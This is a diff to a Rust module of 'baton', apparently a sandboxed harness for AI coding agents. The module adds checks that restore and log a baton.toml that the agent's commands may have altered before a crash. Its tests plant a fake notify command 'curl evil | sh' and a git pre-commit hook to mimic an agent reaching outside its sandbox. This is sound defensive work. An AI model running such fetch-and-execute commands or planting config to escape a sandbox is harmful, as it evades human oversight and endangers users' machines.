@@ -15,14 +15,26 @@
 //! finds one was preceded by a run that did not end cleanly (killed, crashed): it
 //! first puts git's guarded files back as that run found them
 //! ([`Snapshot::restore_git`]), so a hook planted just before a crash never
-//! outlives it to run in the user's own `git commit`. `baton.toml` is left as it is
-//! then: the user may have edited it since, and it was loaded already.
+//! outlives it to run in the user's own `git commit`.
+//!
+//! `baton.toml` is the user's to edit between runs, and what baton runs from it
+//! (`[notify] command`, `[mcp]` servers, `[browser] command`) runs outside the
+//! sandbox, so after a run that did not end cleanly it is judged before anything
+//! loads it ([`ConfigVerdict`]). Changed while the agent's commands could not write
+//! it (bubblewrap bound it read-only, [`Snapshot::with_kernel_binds`]), the change
+//! is the user's and is kept. Changed while they could, baton cannot tell the
+//! user's edit from the agent's: the next `baton run` puts back the file as the
+//! killed run found it, keeps the changed one aside for the user and records it
+//! ([`recover_config`]); a command that may not put files back goes by the saved
+//! copy meanwhile ([`config_source`]).
 //!
 //! A run takes a [`Snapshot`] before each session and calls
 //! [`Snapshot::restore`] after it: what it returns is what the session changed
 //! and baton put back.
 
-use baton_records::RecordsError;
+use baton_agent::transcript::now_ms;
+use baton_config::CONFIG_FILE;
+use baton_records::{LedgerEntry, LedgerKind, RecordsError, State, layout};
 use std::collections::BTreeMap;
 use std::os::unix::fs::PermissionsExt as _;
 use std::path::{Path, PathBuf};
@@ -34,7 +46,10 @@ use crate::error::{HarnessError, io};
 pub const GIT_GUARDED: &[&str] = &["config", "config.worktree", "commondir", "hooks", "info"];
 
 /// Files of the project that baton guards, relative to it.
-pub const PROJECT_GUARDED: &[&str] = &[baton_config::CONFIG_FILE];
+pub const PROJECT_GUARDED: &[&str] = &[CONFIG_FILE];
+
+/// The mode [`collect`] records for a symlink or other special file.
+const SPECIAL: u32 = u32::MAX;
 
 /// One guarded file as it was: its bytes and permission bits, or a directory.
 #[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
@@ -54,6 +69,24 @@ pub struct Snapshot {
     /// Whether `project/.git` was a directory (not a project inside another
     /// repository, or a worktree's `.git` file).
     git_dir: bool,
+    /// Whether nothing the agent ran could write `baton.toml` while this snapshot
+    /// stood ([`Snapshot::with_kernel_binds`]); false in one an older baton saved.
+    #[serde(default)]
+    config_protected: bool,
+}
+
+/// What baton makes of `baton.toml` as it is now, against a snapshot saved by a
+/// run that did not end cleanly ([`Snapshot::config_verdict`]).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ConfigVerdict {
+    /// As that run found it (or the snapshot makes no claim on it).
+    Unchanged,
+    /// Changed, while the kernel kept it read-only for everything the agent ran:
+    /// only the user can have changed it. Kept.
+    UsersEdit,
+    /// Changed, while the agent's commands could write it: baton cannot tell the
+    /// user's edit from the agent's. Never loaded; put back by the next run.
+    Untrusted,
 }
 
 impl Snapshot {
@@ -97,7 +130,20 @@ impl Snapshot {
             roots,
             entries,
             git_dir,
+            config_protected: false,
         })
+    }
+
+    /// This snapshot, knowing whether the kernel keeps `baton.toml` read-only for
+    /// everything the agent runs while it stands: `binds` when all of that runs
+    /// under bubblewrap's read-only binds (baton's own loop where bubblewrap works;
+    /// an agent CLI's own file tools run outside them). The binds cover only a
+    /// `baton.toml` that exists as a plain file: one the agent could create is
+    /// never protected.
+    #[must_use]
+    pub fn with_kernel_binds(mut self, binds: bool) -> Self {
+        self.config_protected = binds && self.config_bytes().is_some();
+        self
     }
 
     /// Save the snapshot to `path` (written whole, then renamed into place).
@@ -129,15 +175,64 @@ impl Snapshot {
     /// [`Self::restore`] limited to git's guarded files (`baton.toml` is left as it
     /// is): for a snapshot saved by a run that did not end cleanly.
     pub fn restore_git(&self) -> Result<Vec<String>, HarnessError> {
+        self.git_only().restore()
+    }
+
+    /// What baton makes of `baton.toml` as it is now ([`ConfigVerdict`]).
+    pub fn config_verdict(&self) -> Result<ConfigVerdict, HarnessError> {
+        let config = self.config_path();
+        if !self.roots.contains(&config) {
+            return Ok(ConfigVerdict::Unchanged);
+        }
+        let mut now = BTreeMap::new();
+        collect(&config, &mut now)?;
+        Ok(if now == self.config_only().entries {
+            ConfigVerdict::Unchanged
+        } else if self.config_protected {
+            ConfigVerdict::UsersEdit
+        } else {
+            ConfigVerdict::Untrusted
+        })
+    }
+
+    /// `baton.toml`'s bytes as this snapshot found it: `None` when it was not a
+    /// plain file (or not there, or the snapshot makes no claim on it).
+    pub fn config_bytes(&self) -> Option<&[u8]> {
+        match self.entries.get(&self.config_path()) {
+            Some(Entry::File { bytes, mode }) if *mode != SPECIAL => Some(bytes),
+            Some(Entry::File { .. } | Entry::Dir) | None => None,
+        }
+    }
+
+    fn config_path(&self) -> PathBuf {
+        self.project.join(CONFIG_FILE)
+    }
+
+    /// This snapshot limited to the roots `keep` says.
+    fn limited(&self, keep: impl Fn(&Path) -> bool) -> Self {
+        let mut s = self.clone();
+        s.roots.retain(|r| keep(r));
+        let roots = s.roots.clone();
+        s.entries
+            .retain(|p, _| roots.iter().any(|r| p.starts_with(r)));
+        s
+    }
+
+    /// Git's guarded files only.
+    fn git_only(&self) -> Self {
         let project_files: Vec<PathBuf> = PROJECT_GUARDED
             .iter()
             .map(|p| self.project.join(p))
             .collect();
-        let mut git = self.clone();
-        git.roots.retain(|r| !project_files.contains(r));
-        git.entries
-            .retain(|p, _| !project_files.iter().any(|f| p.starts_with(f)));
-        git.restore()
+        self.limited(|r| !project_files.iter().any(|f| f == r))
+    }
+
+    /// `baton.toml` only (a repository replaced meanwhile is not its concern).
+    fn config_only(&self) -> Self {
+        let config = self.config_path();
+        let mut s = self.limited(|r| r == config);
+        s.git_dir = false;
+        s
     }
 
     /// The paths that differ from the snapshot now (changed, added, removed), for
@@ -241,6 +336,117 @@ pub fn saved_path(project: &Path) -> PathBuf {
     baton_config::state_dir(project).join("boundary.json")
 }
 
+/// Which `baton.toml` a command may act on ([`config_source`]).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ConfigSource {
+    /// The project's file.
+    File,
+    /// Not the project's file, which changed since a run that has not ended
+    /// cleanly started, while the agent's commands could write it
+    /// ([`ConfigVerdict::Untrusted`]), but these bytes: `baton.toml` as that run
+    /// found it (`None`: there was none).
+    Saved(Option<Vec<u8>>),
+}
+
+/// Which `baton.toml` of `project` a command that does not put files back (it
+/// does not hold the project's lock) may load and run anything from: the file,
+/// unless a saved snapshot judges it [`ConfigVerdict::Untrusted`]; then the
+/// snapshot's copy. Nothing is changed.
+pub fn config_source(project: &Path) -> Result<ConfigSource, HarnessError> {
+    config_source_at(&saved_path(project), project)
+}
+
+fn config_source_at(saved: &Path, project: &Path) -> Result<ConfigSource, HarnessError> {
+    let Some(old) = Snapshot::load(saved, project)? else {
+        return Ok(ConfigSource::File);
+    };
+    Ok(match old.config_verdict()? {
+        ConfigVerdict::Unchanged | ConfigVerdict::UsersEdit => ConfigSource::File,
+        ConfigVerdict::Untrusted => ConfigSource::Saved(old.config_bytes().map(<[u8]>::to_vec)),
+    })
+}
+
+/// A `baton.toml` put back by [`recover_config`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ConfigRestored {
+    /// What had changed, as the gates say it (`baton.toml was changed`).
+    pub what: String,
+    /// Where the changed file is kept, relative to the project; `None` when it was
+    /// not a plain file (removed, nothing to keep).
+    pub kept: Option<String>,
+}
+
+/// For a command that holds `project`'s lock, before it loads `baton.toml`: one
+/// judged [`ConfigVerdict::Untrusted`] by the snapshot a run that did not end
+/// cleanly saved is put back as that run found it. The changed file is kept,
+/// byte for byte, as `.baton/replaced/baton.toml.after-NNNN` (the killed run's
+/// session) for the user, and never read by baton; the change is recorded in the
+/// ledger as a `boundary_violation`. The saved snapshot then makes no claim on
+/// `baton.toml` any more (nothing of the agent's has run since), so a change the
+/// user copies back is obeyed by the next command. `None` when nothing was put
+/// back (no saved snapshot, `baton.toml` unchanged, or the user's edit).
+pub fn recover_config(project: &Path) -> Result<Option<ConfigRestored>, HarnessError> {
+    recover_config_at(&saved_path(project), project)
+}
+
+fn recover_config_at(saved: &Path, project: &Path) -> Result<Option<ConfigRestored>, HarnessError> {
+    let Some(old) = Snapshot::load(saved, project)? else {
+        return Ok(None);
+    };
+    match old.config_verdict()? {
+        ConfigVerdict::Unchanged | ConfigVerdict::UsersEdit => return Ok(None),
+        ConfigVerdict::Untrusted => {}
+    }
+    let number = State::load(project)?.in_progress.map_or(0, |ip| ip.number);
+    let kept = keep_aside(project, &old.config_path(), number)?;
+    let what = old.config_only().restore()?.join(", ");
+    let detail = format!(
+        "{what} after a run that did not end cleanly, while the agent's commands could write it; put back as that run found it{}",
+        kept.as_ref()
+            .map(|k| format!(" (the changed file is kept as {k})"))
+            .unwrap_or_default()
+    );
+    let records = layout::at(project, layout::DIR);
+    std::fs::create_dir_all(&records).map_err(io(&records))?;
+    baton_records::ledger::append(
+        &layout::at(project, layout::LEDGER),
+        &LedgerEntry {
+            t_ms: now_ms(),
+            session: number,
+            kind: LedgerKind::BoundaryViolation,
+            feature: None,
+            detail,
+            commit: None,
+            evidence: Vec::new(),
+            proof: None,
+        },
+    )?;
+    old.git_only().save(saved)?;
+    Ok(Some(ConfigRestored { what, kept }))
+}
+
+/// `file`, when it is a plain file, copied byte for byte to
+/// `.baton/replaced/baton.toml.after-NNNN` (`-2`, `-3`… when that is taken): its
+/// path relative to the project.
+fn keep_aside(project: &Path, file: &Path, number: u32) -> Result<Option<String>, HarnessError> {
+    if !std::fs::symlink_metadata(file).is_ok_and(|m| m.is_file()) {
+        return Ok(None);
+    }
+    let bytes = std::fs::read(file).map_err(io(file))?;
+    let dir = layout::at(project, layout::REPLACED);
+    std::fs::create_dir_all(&dir).map_err(io(&dir))?;
+    let base = format!("{CONFIG_FILE}.after-{number:04}");
+    let mut name = base.clone();
+    let mut n = 1;
+    while std::fs::symlink_metadata(dir.join(&name)).is_ok() {
+        n += 1;
+        name = format!("{base}-{n}");
+    }
+    let to = dir.join(&name);
+    std::fs::write(&to, bytes).map_err(io(&to))?;
+    Ok(Some(format!("{}/{name}", layout::REPLACED)))
+}
+
 /// Every plain file and directory at and under `p`; a symlink or other special file
 /// is recorded as an empty file of mode 0 so that it always differs.
 fn collect(p: &Path, out: &mut BTreeMap<PathBuf, Entry>) -> Result<(), HarnessError> {
@@ -270,7 +476,7 @@ fn collect(p: &Path, out: &mut BTreeMap<PathBuf, Entry>) -> Result<(), HarnessEr
             p.to_path_buf(),
             Entry::File {
                 bytes: b"\0special".to_vec(),
-                mode: u32::MAX,
+                mode: SPECIAL,
             },
         );
     }
@@ -374,5 +580,161 @@ mod tests {
         let e = Snapshot::load(&saved, p).unwrap_err().to_string();
         assert!(e.contains("boundary.json"), "{e}");
         assert!(Snapshot::load(&p.join("none.json"), p).unwrap().is_none());
+    }
+
+    /// A project with git's config and a `baton.toml`, and where its snapshot is
+    /// saved.
+    fn project() -> (tempfile::TempDir, PathBuf) {
+        let t = tempfile::tempdir().unwrap();
+        let p = t.path();
+        std::fs::create_dir_all(p.join(".git/hooks")).unwrap();
+        std::fs::write(p.join(".git/config"), "[core]\n").unwrap();
+        std::fs::write(p.join("baton.toml"), "[policy]\n").unwrap();
+        let saved = p.join("state/boundary.json");
+        (t, saved)
+    }
+
+    const AGENTS: &str = "[policy]\n[notify]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n";
+
+    #[test]
+    fn a_changed_baton_toml_is_the_users_only_where_the_kernel_kept_the_agent_out() {
+        let (t, saved) = project();
+        let p = t.path();
+        let verdict = |binds: bool, change: &dyn Fn()| {
+            std::fs::write(p.join("baton.toml"), "[policy]\n").unwrap();
+            let snap = Snapshot::take(p).unwrap().with_kernel_binds(binds);
+            snap.save(&saved).unwrap();
+            change();
+            let old = Snapshot::load(&saved, p).unwrap().unwrap();
+            (
+                old.config_verdict().unwrap(),
+                config_source_at(&saved, p).unwrap(),
+            )
+        };
+        let edit = || std::fs::write(p.join("baton.toml"), AGENTS).unwrap();
+        let untrusted = ConfigSource::Saved(Some(b"[policy]\n".to_vec()));
+        assert_eq!(
+            verdict(true, &edit),
+            (ConfigVerdict::UsersEdit, ConfigSource::File)
+        );
+        assert_eq!(
+            verdict(false, &edit),
+            (ConfigVerdict::Untrusted, untrusted.clone())
+        );
+        assert_eq!(
+            verdict(false, &|| ()),
+            (ConfigVerdict::Unchanged, ConfigSource::File)
+        );
+        // A mode changed is a change; a removed file is one too.
+        let chmod = || {
+            std::fs::set_permissions(p.join("baton.toml"), std::fs::Permissions::from_mode(0o600))
+                .unwrap()
+        };
+        assert_eq!(verdict(false, &chmod).0, ConfigVerdict::Untrusted);
+        let gone = || std::fs::remove_file(p.join("baton.toml")).unwrap();
+        assert_eq!(verdict(false, &gone), (ConfigVerdict::Untrusted, untrusted));
+
+        // No baton.toml to bind (removed just above): whatever appears later could
+        // be the agent's.
+        assert!(!p.join("baton.toml").exists());
+        let snap = Snapshot::take(p).unwrap().with_kernel_binds(true);
+        snap.save(&saved).unwrap();
+        edit();
+        let old = Snapshot::load(&saved, p).unwrap().unwrap();
+        assert_eq!(old.config_verdict().unwrap(), ConfigVerdict::Untrusted);
+        assert_eq!(
+            config_source_at(&saved, p).unwrap(),
+            ConfigSource::Saved(None)
+        );
+
+        // A snapshot an older baton saved says nothing of binds: not protected.
+        std::fs::write(p.join("baton.toml"), "[policy]\n").unwrap();
+        let snap = Snapshot::take(p).unwrap().with_kernel_binds(true);
+        let mut json: serde_json::Value = serde_json::to_value(&snap).unwrap();
+        json.as_object_mut().unwrap().remove("config_protected");
+        std::fs::write(&saved, json.to_string()).unwrap();
+        edit();
+        let old = Snapshot::load(&saved, p).unwrap().unwrap();
+        assert_eq!(old.config_verdict().unwrap(), ConfigVerdict::Untrusted);
+    }
+
+    #[test]
+    fn an_untrusted_baton_toml_is_put_back_kept_aside_recorded_and_let_go() {
+        let (t, saved) = project();
+        let p = t.path();
+        Snapshot::take(p)
+            .unwrap()
+            .with_kernel_binds(false)
+            .save(&saved)
+            .unwrap();
+        // Killed mid-session after the agent's script wrote both.
+        std::fs::write(p.join("baton.toml"), AGENTS).unwrap();
+        std::fs::write(p.join(".git/hooks/pre-commit"), "#!/bin/sh\ntouch /x\n").unwrap();
+
+        let kept = ".baton/replaced/baton.toml.after-0000";
+        assert_eq!(
+            recover_config_at(&saved, p).unwrap(),
+            Some(ConfigRestored {
+                what: "baton.toml was changed".into(),
+                kept: Some(kept.into()),
+            })
+        );
+        assert_eq!(
+            std::fs::read_to_string(p.join("baton.toml")).unwrap(),
+            "[policy]\n"
+        );
+        assert_eq!(std::fs::read_to_string(p.join(kept)).unwrap(), AGENTS);
+        let ledger = baton_records::ledger::read(&p.join(layout::LEDGER))
+            .unwrap()
+            .entries;
+        assert_eq!(ledger.len(), 1);
+        assert_eq!(ledger[0].kind, LedgerKind::BoundaryViolation);
+        assert_eq!(
+            ledger[0].detail,
+            format!(
+                "baton.toml was changed after a run that did not end cleanly, while the agent's commands could write it; put back as that run found it (the changed file is kept as {kept})"
+            )
+        );
+        // Git's files are the run's to put back, from the snapshot still saved.
+        assert!(p.join(".git/hooks/pre-commit").exists());
+        let old = Snapshot::load(&saved, p).unwrap().unwrap();
+        assert_eq!(
+            old.restore_git().unwrap(),
+            [".git/hooks/pre-commit was added"]
+        );
+
+        // The user copies their edit back: nothing of the agent's ran since, so
+        // it stands, for every command.
+        std::fs::copy(p.join(kept), p.join("baton.toml")).unwrap();
+        assert_eq!(recover_config_at(&saved, p).unwrap(), None);
+        assert_eq!(config_source_at(&saved, p).unwrap(), ConfigSource::File);
+        assert_eq!(
+            std::fs::read_to_string(p.join("baton.toml")).unwrap(),
+            AGENTS
+        );
+
+        // A second file kept for the same session does not replace the first; a
+        // symlink is removed, not followed, and nothing is kept of it.
+        let outside = t.path().join("outside.toml");
+        std::fs::write(&outside, AGENTS).unwrap();
+        std::fs::write(p.join("baton.toml"), "[policy]\n").unwrap();
+        Snapshot::take(p).unwrap().save(&saved).unwrap();
+        std::fs::write(p.join("baton.toml"), "[run]\n").unwrap();
+        let again = recover_config_at(&saved, p).unwrap().unwrap();
+        assert_eq!(
+            again.kept.as_deref(),
+            Some(".baton/replaced/baton.toml.after-0000-2")
+        );
+        Snapshot::take(p).unwrap().save(&saved).unwrap();
+        std::fs::remove_file(p.join("baton.toml")).unwrap();
+        std::os::unix::fs::symlink(&outside, p.join("baton.toml")).unwrap();
+        let link = recover_config_at(&saved, p).unwrap().unwrap();
+        assert_eq!(link.kept, None);
+        assert!(
+            !std::fs::symlink_metadata(p.join("baton.toml"))
+                .unwrap()
+                .is_symlink()
+        );
+        assert_eq!(std::fs::read_to_string(&outside).unwrap(), AGENTS);
     }
 }
